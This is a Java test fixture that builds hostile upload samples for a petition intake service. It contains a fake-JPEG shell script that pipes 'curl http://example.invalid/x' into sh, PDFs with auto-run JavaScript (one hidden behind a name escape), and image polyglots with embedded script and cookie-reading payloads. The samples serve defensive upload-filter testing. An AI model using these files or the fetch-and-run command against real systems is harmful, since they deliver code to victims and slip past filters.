@@ -1,0 +1,121 @@
+package org.xuncha.intake;
+
+import java.awt.Color;
+import java.awt.image.BufferedImage;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.UncheckedIOException;
+import java.nio.charset.StandardCharsets;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipOutputStream;
+
+import javax.imageio.ImageIO;
+
+/** Test files: a photo carrying EXIF/GPS-like metadata, a small PDF, and the hostile corpus of issue 5. */
+final class PetitionFiles {
+
+    private PetitionFiles() {
+    }
+
+    /** A JPEG whose APP1 (Exif) and COM segments carry {@code marker}, as a phone's GPS tag and comment would. */
+    static byte[] photoWithMetadata(String marker) {
+        byte[] plain = image("jpeg");
+        byte[] exif = ("Exif\0\0MM\0*GPSLatitude=23.1291;GPSLongitude=113.2644;Owner=" + marker)
+                .getBytes(StandardCharsets.UTF_8);
+        byte[] comment = ("camera owner " + marker).getBytes(StandardCharsets.UTF_8);
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        out.write(plain, 0, 2); // SOI
+        segment(out, 0xE1, exif);
+        segment(out, 0xFE, comment);
+        out.write(plain, 2, plain.length - 2);
+        return out.toByteArray();
+    }
+
+    static byte[] png() {
+        return image("png");
+    }
+
+    static byte[] pdf() {
+        return ("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
+                + "2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
+                .getBytes(StandardCharsets.US_ASCII);
+    }
+
+    static byte[] pdfWithJavaScript() {
+        return ("%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert('x')) >> >> endobj\n"
+                + "trailer << /Root 1 0 R >>\n%%EOF\n").getBytes(StandardCharsets.US_ASCII);
+    }
+
+    /** JavaScript hidden behind a name escape: /J#61vaScript is /JavaScript. */
+    static byte[] pdfWithEscapedJavaScript() {
+        return ("%PDF-1.4\n1 0 obj << /OpenAction << /S /J#61vaScript /J#53 (x) >> >> endobj\n%%EOF\n")
+                .getBytes(StandardCharsets.US_ASCII);
+    }
+
+    static byte[] scriptRenamedJpg() {
+        return "#!/bin/sh\ncurl http://example.invalid/x | sh\n".getBytes(StandardCharsets.US_ASCII);
+    }
+
+    /** A real JPEG with a zip archive appended: opens as a picture and as an archive. */
+    static byte[] jpegZipPolyglot() {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        out.writeBytes(image("jpeg"));
+        try (ZipOutputStream zip = new ZipOutputStream(out)) {
+            zip.putNextEntry(new ZipEntry("payload.js"));
+            zip.write("alert(1)".getBytes(StandardCharsets.US_ASCII));
+            zip.closeEntry();
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+        return out.toByteArray();
+    }
+
+    /** A GIF that is also an HTML page with a script (GIFAR-style). */
+    static byte[] gifHtmlPolyglot() {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        out.writeBytes(image("gif"));
+        out.writeBytes("<html><script>alert(document.cookie)</script></html>".getBytes(StandardCharsets.US_ASCII));
+        return out.toByteArray();
+    }
+
+    /** A PNG with a PDF after its end. */
+    static byte[] pngPdfPolyglot() {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        out.writeBytes(image("png"));
+        out.writeBytes(pdf());
+        return out.toByteArray();
+    }
+
+    static byte[] oversized() {
+        byte[] big = new byte[(int) PetitionUploads.MAX_BYTES + 1];
+        byte[] head = image("jpeg");
+        System.arraycopy(head, 0, big, 0, head.length);
+        return big;
+    }
+
+    private static byte[] image(String format) {
+        BufferedImage img = new BufferedImage(32, 24, BufferedImage.TYPE_INT_RGB);
+        var g = img.createGraphics();
+        g.setColor(new Color(200, 60, 40));
+        g.fillRect(0, 0, 32, 24);
+        g.setColor(Color.WHITE);
+        g.fillRect(8, 6, 16, 12);
+        g.dispose();
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        try {
+            ImageIO.write(img, format, out);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+        return out.toByteArray();
+    }
+
+    private static void segment(ByteArrayOutputStream out, int marker, byte[] body) {
+        out.write(0xFF);
+        out.write(marker);
+        int length = body.length + 2;
+        out.write(length >> 8);
+        out.write(length & 0xFF);
+        out.writeBytes(body);
+    }
+}
